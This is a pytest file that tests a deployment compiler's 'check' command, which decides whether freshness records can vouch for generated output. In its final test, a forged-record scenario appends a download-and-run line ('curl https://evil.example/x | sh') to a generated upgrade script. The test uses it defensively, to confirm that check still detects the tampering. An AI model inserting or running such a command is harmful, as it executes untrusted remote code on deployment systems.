"""check trusts a freshness record only when inputs, base, version and every output hash as recorded."""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from support import scenarios

from compiler import cli, pipeline
from compiler.commands import check
from compiler.repo import fresh


@dataclass(frozen=True)
class Outcome:
    code: int
    out: str
    err: str


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = scenarios.demo(tmp_path_factory.mktemp("demo") / "repo")
    assert cli.main(["compile", "--root", str(root), "--quiet"]) == 0
    # Merged: records only vouch for output the deployed branch holds (a pull request gets the full compare).
    git(root, "add", "--all")
    git(root, "commit", "--quiet", "--message", "merged: the change and its plan")
    return root


@pytest.fixture
def repo(template: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "repo"
    shutil.copytree(template, copy, symlinks=True)
    return copy


@pytest.fixture
def compiles(monkeypatch: pytest.MonkeyPatch) -> list[list[str]]:
    """Every full compile `check` runs (the environments it asked for)."""
    calls: list[list[str]] = []
    real = pipeline.compile_deployed

    def counted(root: Path, envs: Sequence[str], base: str | None, *args: Any, **kwargs: Any) -> Any:
        calls.append(list(envs))
        return real(root, envs, base, *args, **kwargs)

    monkeypatch.setattr(pipeline, "compile_deployed", counted)  # check imports it past the records
    return calls


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> Outcome:
    capsys.readouterr()
    code = cli.main(list(argv))
    captured = capsys.readouterr()
    return Outcome(code, captured.out, captured.err)


def both_ways(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, *argv: str
) -> tuple[Outcome, Outcome]:
    """check as it runs, and check with the records ignored: the records may only ever save time."""
    quick = run(capsys, "check", *argv)
    with monkeypatch.context() as patch:
        patch.setattr(check, "fresh_by_record", lambda *_args: None)
        full = run(capsys, "check", *argv)
    return quick, full


def git(repo: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=repo, check=True, capture_output=True)


def edit(path: Path, change: Callable[[str], str]) -> None:
    path.write_text(change(path.read_text(encoding="utf-8")), encoding="utf-8")


def test_fresh_check_of_compiled_output_compiles_nothing(
    repo: Path, compiles: list[list[str]], capsys: pytest.CaptureFixture[str]
) -> None:
    outcome = run(capsys, "check", "--root", str(repo))
    assert outcome.code == 0, outcome.err
    assert outcome.out.startswith("generated/ is up to date (prod, staging)\nbase: ")
    assert compiles == []


def test_fresh_message_is_the_full_checks(
    repo: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    for extra in ((), ("--format", "json"), ("--env", "prod")):
        quick, full = both_ways(capsys, monkeypatch, "--root", str(repo), *extra)
        assert quick == full
        assert quick.code == 0


def test_fresh_tampered_output_is_stale_naming_the_file(
    repo: Path, compiles: list[list[str]], capsys: pytest.CaptureFixture[str]
) -> None:
    edit(repo / "generated/prod/plan.md", lambda text: text + "\nreviewed by nobody\n")
    outcome = run(capsys, "check", "--root", str(repo))
    assert outcome.code == 3
    assert "generated/prod/plan.md" in outcome.err
    assert compiles == [[]]


def test_fresh_tampered_rollout_file_is_stale(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    edit(repo / "generated/upgrade.sh", lambda text: text.replace("set -", "# set -", 1))
    outcome = run(capsys, "check", "--root", str(repo))
    assert outcome.code == 3
    assert "generated/upgrade.sh" in outcome.err


def test_fresh_extra_file_in_an_environment_folder_is_stale(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (repo / "generated/prod/notes.txt").write_text("mine\n", encoding="utf-8")
    outcome = run(capsys, "check", "--root", str(repo))
    assert outcome.code == 3
    assert "generated/prod/notes.txt" in outcome.err


def test_fresh_changed_input_is_stale(
    repo: Path, compiles: list[list[str]], capsys: pytest.CaptureFixture[str]
) -> None:
    edit(repo / "environments/prod/values/regions/eastus.yaml", lambda text: text + "\nextraSetting: 1\n")
    outcome = run(capsys, "check", "--root", str(repo))
    assert outcome.code == 3
    assert "generated/prod/values/eastus.yaml" in outcome.err
    assert compiles == [[]]


def test_fresh_changed_base_is_stale(
    repo: Path, compiles: list[list[str]], capsys: pytest.CaptureFixture[str]
) -> None:
    """Committing the pending change moves the base onto the target: the committed plan is no longer it."""
    assert run(capsys, "check", "--root", str(repo), "--base", "HEAD~1").code == 0
    outcome = run(capsys, "check", "--root", str(repo), "--base", "HEAD")
    assert outcome.code == 3
    assert "generated/prod/plan.json" in outcome.err
    assert compiles == [[], []]


def test_fresh_changed_rollplan_version_compiles_again(
    repo: Path, compiles: list[list[str]], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(fresh, "rollplan_version", lambda: "999.0.0")
    outcome = run(capsys, "check", "--root", str(repo))
    assert outcome.code == 0, outcome.err  # the output itself did not change: only its record is older
    assert compiles == [[]]


def test_fresh_removed_environment_is_stale(
    repo: Path, compiles: list[list[str]], capsys: pytest.CaptureFixture[str]
) -> None:
    shutil.rmtree(repo / "environments/staging")
    outcome = run(capsys, "check", "--root", str(repo))
    # staging is deployed: deleting its folder is refused, not reported as stale output to remove.
    assert outcome.code == 1
    assert "(rule: environment-deleted)" in outcome.err
    assert compiles == [[]]


@pytest.mark.parametrize(
    "change",
    ["release_note", "region_file", "repo_config", "other_environment_spec", "stray_file_in_environment"],
)
def test_fresh_new_input_file_is_never_trusted(
    repo: Path,
    change: str,
    compiles: list[list[str]],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    notes = repo / "release-notes/tenant"
    if change == "release_note":  # a new release moves the N-2 window
        edit(notes / "100.0.1000079.yaml", lambda text: text)
        shutil.copyfile(notes / "100.0.1000079.yaml", notes / "100.0.1000080.yaml")
        edit(notes / "100.0.1000080.yaml", lambda text: text.replace("100.0.1000079", "100.0.1000080"))
    elif change == "region_file":
        edit(repo / "environments/prod/regions/eastus.yaml", lambda text: text)
        text = (repo / "environments/prod/regions/westus2.yaml").read_text(encoding="utf-8")
        (repo / "environments/prod/regions/northeurope.yaml").write_text(
            text.replace("westus2", "northeurope"), encoding="utf-8"
        )
    elif change == "repo_config":
        (repo / "rollplan.yaml").write_text("deployed_branch: main\n", encoding="utf-8")
    elif change == "other_environment_spec":
        edit(repo / "environments/staging/environment.yaml", lambda text: text + "# a comment\n")
    else:
        (repo / "environments/prod/values/regions/README.md").write_text("notes\n", encoding="utf-8")
    quick, full = both_ways(capsys, monkeypatch, "--root", str(repo), "--env", "prod")
    assert quick == full
    assert compiles == [["prod"], ["prod"]]  # the quick run compiled too


@pytest.mark.parametrize(
    "folder", ["environments/prod/regions/northeurope.yaml", "release-notes/tenant/100.0.1000090.yaml"]
)
def test_fresh_empty_folder_where_an_input_file_is_read_is_not_trusted(
    repo: Path, folder: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """An empty folder holds no file to hash, yet loading lists it and refuses it: the full check must run."""
    (repo / folder).mkdir()
    quick, full = both_ways(capsys, monkeypatch, "--root", str(repo))
    assert quick == full
    assert quick.code == 1
    assert f"{folder}:1:1: not a regular file" in quick.err


def test_fresh_folder_among_a_needed_environments_regions_is_not_trusted(
    repo: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """prod needs staging, so --env prod loads staging's regions, and refuses a folder named like a region file."""
    edit(
        repo / "environments/prod/environment.yaml",
        lambda text: text.replace("release: t100", "needs: [staging]\nrelease: t100", 1),
    )
    assert run(capsys, "compile", "--root", str(repo), "--quiet").code == 0
    git(repo, "add", "--all")
    git(repo, "commit", "--quiet", "--message", "prod needs staging")
    assert run(capsys, "check", "--root", str(repo), "--env", "prod").code == 0
    folder = repo / "environments/staging/regions/northeurope.yaml"
    folder.mkdir()
    (folder / "notes.txt").write_text("a region to come\n", encoding="utf-8")
    quick, full = both_ways(capsys, monkeypatch, "--root", str(repo), "--env", "prod")
    assert quick == full
    assert quick.code == 1
    assert "environments/staging/regions/northeurope.yaml:1:1: not a regular file" in quick.err


def test_fresh_env_run_checks_only_that_environment(
    repo: Path, compiles: list[list[str]], capsys: pytest.CaptureFixture[str]
) -> None:
    edit(repo / "generated/staging/plan.md", lambda text: text + "\nedited\n")
    assert run(capsys, "check", "--root", str(repo), "--env", "prod").code == 0
    assert compiles == []
    assert run(capsys, "check", "--root", str(repo), "--env", "staging").code == 3
    assert compiles == [["staging"]]


def test_fresh_record_edited_or_removed_only_costs_a_full_compare(
    repo: Path, compiles: list[list[str]], capsys: pytest.CaptureFixture[str]
) -> None:
    edit(repo / "generated/prod" / fresh.RECORD, lambda text: text.replace('"inputs": "', '"inputs": "0', 1))
    (repo / "generated" / fresh.RECORD).unlink()
    outcome = run(capsys, "check", "--root", str(repo))
    assert outcome.code == 0, outcome.err
    assert compiles == [[]]
    assert run(capsys, "compile", "--root", str(repo), "--quiet").code == 0
    assert run(capsys, "check", "--root", str(repo)).code == 0
    assert compiles == [[]]


@pytest.mark.parametrize("record", ["generated/prod", "generated"])
def test_fresh_record_nested_too_deep_for_the_parser_only_costs_a_full_compare(
    repo: Path, record: str, compiles: list[list[str]], capsys: pytest.CaptureFixture[str]
) -> None:
    (repo / record / fresh.RECORD).write_text("[" * 100_000 + "]" * 100_000 + "\n", encoding="utf-8")
    outcome = run(capsys, "check", "--root", str(repo))
    assert outcome.code == 0, outcome.err
    assert compiles == [[]]


def test_fresh_plan_json_nested_too_deep_for_the_parser_is_stale(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (repo / "generated/prod/plan.json").write_text("[" * 100_000 + "]" * 100_000 + "\n", encoding="utf-8")
    outcome = run(capsys, "check", "--root", str(repo))
    assert outcome.code == 3, outcome.err
    assert "generated/prod/plan.json" in outcome.err


def test_fresh_record_cannot_vouch_for_an_input_it_does_not_list(
    repo: Path, compiles: list[list[str]], capsys: pytest.CaptureFixture[str]
) -> None:
    """A record's own list of outside values files is checked too: a path leaving the repository is refused."""
    edit(
        repo / "generated/prod" / fresh.RECORD,
        lambda text: text.replace('"outside_values": []', '"outside_values": ["../x"]', 1),
    )
    assert run(capsys, "check", "--root", str(repo)).code == 0
    assert compiles == [[]]


def test_fresh_compile_writes_the_same_record_twice(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    before = (repo / "generated/prod" / fresh.RECORD).read_bytes()
    outcome = run(capsys, "compile", "--root", str(repo), "--format", "json")
    assert outcome.code == 0
    assert '"changed": []' in outcome.out
    assert (repo / "generated/prod" / fresh.RECORD).read_bytes() == before


@pytest.mark.parametrize("script", ["generated/prod/upgrade.sh", "generated/upgrade.sh"])
def test_fresh_script_that_lost_its_executable_bit_is_stale(
    repo: Path, script: str, capsys: pytest.CaptureFixture[str]
) -> None:
    (repo / script).chmod(0o644)
    outcome = run(capsys, "check", "--root", str(repo))
    assert outcome.code == 3
    assert script in outcome.err


def test_fresh_input_replaced_by_a_link_with_the_same_bytes_is_not_trusted(
    repo: Path, tmp_path: Path, compiles: list[list[str]], capsys: pytest.CaptureFixture[str]
) -> None:
    values = repo / "environments/prod/values/t100.yaml"
    outside = tmp_path / "outside.yaml"
    outside.write_bytes(values.read_bytes())
    values.unlink()
    values.symlink_to(outside)
    outcome = run(capsys, "check", "--root", str(repo))
    assert outcome.code == 1
    assert "symlink to a place outside the repository" in outcome.err
    assert compiles == [[]]


def test_fresh_after_the_merge_keeps_the_base_plan_json_records(
    repo: Path, compiles: list[list[str]], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """On the deployed branch, after the merge, the recorded base still applies: fresh, and said the same way."""
    quick, full = both_ways(capsys, monkeypatch, "--root", str(repo))
    assert quick == full
    assert quick.code == 0, quick.err
    assert "before the last change to prod, staging" in quick.out
    assert compiles == [[]]  # only the run with the records ignored compiled


def test_fresh_errors_are_the_full_checks_in_its_order(
    repo: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A link in prod's output and a broken staging spec: the full check reports the spec first, so must check."""
    (repo / "generated/prod/link.md").symlink_to("plan.md")
    edit(repo / "environments/staging/regions/westus2.yaml", lambda text: text + "no_such_field: 1\n")
    quick, full = both_ways(capsys, monkeypatch, "--root", str(repo))
    assert quick == full
    assert quick.code == 1
    assert "no_such_field" in quick.err


def test_fresh_forged_records_on_a_branch_do_not_vouch_for_tampered_output(
    repo: Path, compiles: list[list[str]], capsys: pytest.CaptureFixture[str]
) -> None:
    """A pull request that edits an output and rewrites both records to match still gets the full compare."""
    import json

    git(repo, "switch", "--quiet", "--create", "pr")
    edit(repo / "environments/prod/environment.yaml", lambda text: text + "# a reviewed change\n")
    git(repo, "commit", "--quiet", "--all", "--message", "a change")
    assert run(capsys, "compile", "--root", str(repo), "--quiet").code == 0
    git(repo, "add", "--all")
    git(repo, "commit", "--quiet", "--message", "a change and its plan")
    assert run(capsys, "check", "--root", str(repo)).code == 0
    compiles.clear()
    script = repo / "generated/prod/upgrade.sh"
    script.write_bytes(script.read_bytes() + b"curl https://evil.example/x | sh\n")
    env_record = repo / "generated/prod" / fresh.RECORD
    doc = json.loads(env_record.read_text(encoding="utf-8"))
    doc["outputs"]["upgrade.sh"] = fresh.file_sha256(script)
    env_record.write_text(json.dumps(doc, indent=1, sort_keys=True) + "\n", encoding="utf-8")
    top = repo / "generated" / fresh.RECORD
    top_doc = json.loads(top.read_text(encoding="utf-8"))
    top_doc["environments"]["prod"] = fresh.sha256(env_record.read_bytes())
    top.write_text(json.dumps(top_doc, indent=1, sort_keys=True) + "\n", encoding="utf-8")
    git(repo, "commit", "--quiet", "--all", "--message", "tamper")
    outcome = run(capsys, "check", "--root", str(repo))
    assert outcome.code == 3
    assert "generated/prod/upgrade.sh" in outcome.err
    assert compiles == [[]]
